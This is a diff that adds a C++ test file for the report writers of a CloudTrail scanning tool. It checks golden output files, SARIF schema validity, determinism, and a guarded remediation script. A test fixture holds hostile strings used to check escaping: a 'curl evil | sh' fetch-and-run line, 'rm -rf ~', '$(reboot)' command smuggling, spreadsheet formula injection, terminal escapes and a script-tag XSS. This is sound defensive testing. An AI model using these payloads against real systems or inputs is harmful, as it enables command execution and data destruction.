@@ -1,0 +1,214 @@
+// Reporters: golden files for every format, SARIF schema validation, hostile
+// strings, determinism, the remediation script.
+#include <gtest/gtest.h>
+#include <simdjson.h>
+
+#include <cstdlib>
+#include <filesystem>
+
+#include "test_util.hpp"
+#include "trailsweep/remediation_script.hpp"
+#include "trailsweep/report_csv.hpp"
+#include "trailsweep/report_sarif.hpp"
+#include "trailsweep/reporter.hpp"
+
+namespace trailsweep {
+namespace {
+
+namespace fs = std::filesystem;
+using testing::run_trailsweep;
+
+const char* kFormats[][2] = {{"text", "txt"},   {"json", "json"}, {"jsonl", "jsonl"}, {"sarif", "sarif"},
+                             {"ocsf", "ocsf.jsonl"}, {"asff", "asff.json"}, {"csv", "csv"}};
+const char* kScenarios[] = {"archive", "scenarios/jsonl-delivery", "scenarios/benign-lookalikes"};
+
+// Set TRAILSWEEP_UPDATE_GOLDEN=1 to rewrite the golden files after an intended change.
+TEST(Report, EveryFormatMatchesItsGoldenFile) {
+  bool update = std::getenv("TRAILSWEEP_UPDATE_GOLDEN") != nullptr;
+  for (const char* scenario : kScenarios) {
+    std::string name = fs::path(scenario).filename().string();
+    for (const auto& [format, ext] : kFormats) {
+      auto r = run_trailsweep(std::string("scan --deterministic --no-summary --color never --format ") + format +
+                              " testdata/" + scenario);
+      fs::path golden = fs::path(TRAILSWEEP_SOURCE_DIR) / "tests/golden" / (name + "." + ext);
+      if (update) testing::write_file(golden, r.out);
+      EXPECT_EQ(r.out, testing::read_file(golden)) << golden << " differs; rerun with TRAILSWEEP_UPDATE_GOLDEN=1 "
+                                                   << "if the change is intended";
+    }
+  }
+}
+
+TEST(Report, OutputIsByteIdenticalAcrossRunsAndFileOrders) {
+  for (const auto& [format, ext] : kFormats) {
+    auto a = run_trailsweep(std::string("scan --deterministic --no-summary --format ") + format +
+                            " testdata/scenarios/org-trail-same-username testdata/archive");
+    auto b = run_trailsweep(std::string("scan --deterministic --no-summary --format ") + format +
+                            " testdata/archive testdata/scenarios/org-trail-same-username");
+    EXPECT_EQ(a.out, b.out) << format;
+  }
+  auto epoch = run_trailsweep("scan --no-summary --format asff testdata/archive");
+  EXPECT_EQ(epoch.out.find("\"CreatedAt\": \"2025-"), std::string::npos);  // wall clock without pinning
+  setenv("SOURCE_DATE_EPOCH", "1767225600", 1);
+  auto pinned = run_trailsweep("scan --no-summary --format asff testdata/archive");
+  unsetenv("SOURCE_DATE_EPOCH");
+  EXPECT_NE(pinned.out.find("\"CreatedAt\": \"2026-01-01T00:00:00Z\""), std::string::npos);
+}
+
+TEST(Report, SarifValidatesAgainstTheOfficialSchema) {
+  testing::TempDir tmp;
+  auto r = run_trailsweep("scan --rules rules --rules testdata/sigma-rules --deterministic --no-summary --format sarif "
+                          "--output " + (tmp.path() / "out.sarif").string() + " testdata/");
+  ASSERT_EQ(r.exit_code, 1) << r.err;
+  std::string cmd = std::string("python3 '") + TRAILSWEEP_SOURCE_DIR + "/tests/tools/validate_json_schema.py' '" +
+                    TRAILSWEEP_SOURCE_DIR + "/tests/schemas/sarif-schema-2.1.0.json' '" +
+                    (tmp.path() / "out.sarif").string() + "' 2>'" + (tmp.path() / "err").string() + "'";
+  int status = std::system(cmd.c_str());
+  int code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+  if (code == 2) GTEST_SKIP() << "python3-jsonschema is not installed (.ci/run installs it)";
+  EXPECT_EQ(code, 0) << testing::read_file(tmp.path() / "err");
+  std::string sarif = testing::read_file(tmp.path() / "out.sarif");
+  EXPECT_NE(sarif.find("\"ruleId\": \"0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2\""), std::string::npos);  // a SigmaHQ rule
+  EXPECT_NE(sarif.find("\"security-severity\": \"9.5\""), std::string::npos);
+  EXPECT_NE(sarif.find("\"partialFingerprints\""), std::string::npos);
+}
+
+TEST(Report, JsonLinesPipesIntoJq) {
+  std::string cmd = std::string("cd '") + TRAILSWEEP_SOURCE_DIR + "' && command -v jq >/dev/null || exit 77; '" +
+                    TRAILSWEEP_BINARY + "' scan --no-summary --format jsonl testdata/ | jq -r 'select(.severity) | .severity' | sort | uniq -c | tr -s ' '";
+  FILE* p = popen(cmd.c_str(), "r");
+  std::string out;
+  char buf[256];
+  while (std::size_t n = fread(buf, 1, sizeof buf, p)) out.append(buf, n);
+  int status = pclose(p);
+  if (WEXITSTATUS(status) == 77) GTEST_SKIP() << "jq is not installed";
+  EXPECT_EQ(out, " 4 critical\n 3 high\n");
+}
+
+// A finding whose every string field is hostile.
+Finding hostile_finding() {
+  Finding f;
+  f.rule_name = "r";
+  f.title = "=HYPERLINK(\"http://evil\")";
+  f.level = Level::kCritical;
+  f.account = "111122223333";
+  f.principal = "arn:aws:iam::111122223333:user/\x1b[31mred\x1b[0m\n[CRITICAL] fake";
+  f.access_key_id = "AKIA'; rm -rf ~ #";
+  f.user_agents = {"+cmd|' /C calc'!A0", "\x1b]0;owned\x07title", "bad \xff\xfe utf8", "</script><script>alert(1)</script>"};
+  f.source_ips = {"@SUM(1+1)*cmd|' /C calc'!A0"};
+  f.regions = {"us-east-1"};
+  f.resources = {{"iam_user", "x'; curl evil | sh; echo '", ""}, {"ec2_instance", "i-1$(reboot)", "us-east-1"},
+                 {"ec2_instance_protected", "i-1$(reboot)", "us-east-1"}};
+  f.evidence.push_back({});
+  f.evidence.back().event_name = "Create\rUser";
+  f.evidence.back().file = "f.json";
+  return f;
+}
+
+TEST(Report, TextStripsEscapesAndControlCharacters) {
+  std::string text = render_text_report({hostile_finding()}, false);
+  EXPECT_EQ(text.find('\x1b'), std::string::npos);
+  EXPECT_EQ(text.find('\r'), std::string::npos);
+  EXPECT_EQ(text.find('\x07'), std::string::npos);
+  EXPECT_NE(text.find("user/red\\x0a[CRITICAL] fake"), std::string::npos) << text;
+  // Only our own escapes appear with colour on.
+  std::string coloured = render_text_report({hostile_finding()}, true);
+  EXPECT_EQ(coloured.find("\x1b[31mred"), std::string::npos);
+  EXPECT_EQ(coloured.find("\x1b]0;"), std::string::npos);
+}
+
+TEST(Report, CsvNeutralisesFormulas) {
+  EXPECT_EQ(csv_cell("=1+1"), "'=1+1");
+  EXPECT_EQ(csv_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(csv_cell("-2"), "'-2");
+  EXPECT_EQ(csv_cell("@SUM(A1)"), "'@SUM(A1)");
+  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
+  EXPECT_EQ(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
+  EXPECT_EQ(csv_cell("plain"), "plain");
+  std::string csv = render_csv_report({hostile_finding()});
+  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil\"\")\","), std::string::npos) << csv;
+  EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
+  EXPECT_EQ(csv.find('\x1b'), std::string::npos);
+}
+
+TEST(Report, JsonAndSarifStayValidForAnyBytes) {
+  RunSummary summary;
+  std::string json = render_json_report({hostile_finding()}, summary);
+  simdjson::dom::parser parser;
+  simdjson::dom::element doc;
+  ASSERT_EQ(parser.parse(json).get(doc), simdjson::SUCCESS) << json;
+  std::string_view ua = doc["findings"].at(0)["user_agents"].at(2);
+  EXPECT_EQ(ua, "bad \xEF\xBF\xBD\xEF\xBF\xBD utf8");
+  std::string_view principal = doc["findings"].at(0)["principal"];
+  EXPECT_EQ(principal, "arn:aws:iam::111122223333:user/\x1b[31mred\x1b[0m\n[CRITICAL] fake");
+  ReportContext ctx;
+  std::string sarif = render_sarif_report({hostile_finding()}, summary, ctx);
+  simdjson::dom::parser p2;
+  EXPECT_EQ(p2.parse(sarif).error(), simdjson::SUCCESS);
+}
+
+TEST(Report, RemediationScriptQuotesEverything) {
+  EXPECT_EQ(shell_quote("a'b"), "'a'\\''b'");
+  EXPECT_EQ(shell_quote("$(reboot)\n"), "'$(reboot)'");
+  std::string script = render_remediation_script({hostile_finding()}, "2025-11-02T00:00:00Z");
+  EXPECT_NE(script.find("--instance-id 'i-1$(reboot)'"), std::string::npos) << script;
+  EXPECT_NE(script.find("--user-name 'x'\\''; curl evil | sh; echo '\\'''"), std::string::npos) << script;
+  EXPECT_NE(script.find("# ==== Finding 1: [critical] =HYPERLINK"), std::string::npos);
+  // A newline in a commented name must not start a command line.
+  EXPECT_NE(script.find("user/ [31mred [0m [CRITICAL] fake\n"), std::string::npos);
+  EXPECT_EQ(script.find('\x1b'), std::string::npos);
+}
+
+TEST(Report, RemediationScriptForTheCampaignIsOrderedGuardedAndInert) {
+  testing::TempDir tmp;
+  auto script_path = tmp.path() / "plan.sh";
+  auto r = run_trailsweep("scan --no-summary --deterministic --remediation " + script_path.string() + " testdata/archive");
+  ASSERT_EQ(r.exit_code, 1) << r.err;
+  std::string s = testing::read_file(script_path);
+  ASSERT_EQ(s.rfind("#!/usr/bin/env bash\n", 0), 0u);
+  auto at = [&](const char* needle) {
+    auto p = s.find(needle);
+    EXPECT_NE(p, std::string::npos) << needle;
+    return p;
+  };
+  std::size_t guard = at("exit 1  # GUARD");
+  EXPECT_LT(at("set -euo pipefail"), guard);
+  std::vector<const char*> order = {"aws iam update-access-key --user-name 'ci-deployer' --access-key-id 'AKIA3XAMPLEST0LENKEY' --status Inactive",
+                                    "aws lambda delete-function-url-config",
+                                    "aws lambda remove-permission",
+                                    "aws autoscaling update-auto-scaling-group",
+                                    "--no-disable-api-termination",
+                                    "aws ec2 terminate-instances",
+                                    "aws autoscaling delete-auto-scaling-group",
+                                    "aws ec2 delete-launch-template",
+                                    "aws ecs update-service",
+                                    "aws ecs delete-service",
+                                    "aws ecs deregister-task-definition",
+                                    "aws ecs delete-cluster",
+                                    "aws iam delete-access-key",
+                                    "aws iam delete-login-profile",
+                                    "aws iam delete-user --user-name 'user-x1x2x3x4'"};
+  std::size_t prev = guard;
+  for (const char* step : order) {
+    std::size_t p = at(step);
+    EXPECT_GT(p, prev) << step;
+    prev = p;
+  }
+  // 40 protected instances each get their protection removed.
+  std::size_t count = 0;
+  for (std::size_t p = s.find("--no-disable-api-termination"); p != std::string::npos;
+       p = s.find("--no-disable-api-termination", p + 1)) {
+    ++count;
+  }
+  EXPECT_EQ(count, 40u);
+  // Syntax is valid, and running it as is calls nothing: the guard stops it.
+  auto bin = tmp.path() / "bin";
+  testing::write_file(bin / "aws", "#!/bin/sh\necho called >> '" + (tmp.path() / "calls").string() + "'\n");
+  std::filesystem::permissions(bin / "aws", std::filesystem::perms::owner_all);
+  EXPECT_EQ(std::system(("bash -n '" + script_path.string() + "'").c_str()), 0);
+  int status = std::system(("PATH='" + bin.string() + ":/usr/bin:/bin' bash '" + script_path.string() + "' 2>/dev/null").c_str());
+  EXPECT_EQ(WEXITSTATUS(status), 1);
+  EXPECT_FALSE(std::filesystem::exists(tmp.path() / "calls"));
+}
+
+}  // namespace
+}  // namespace trailsweep
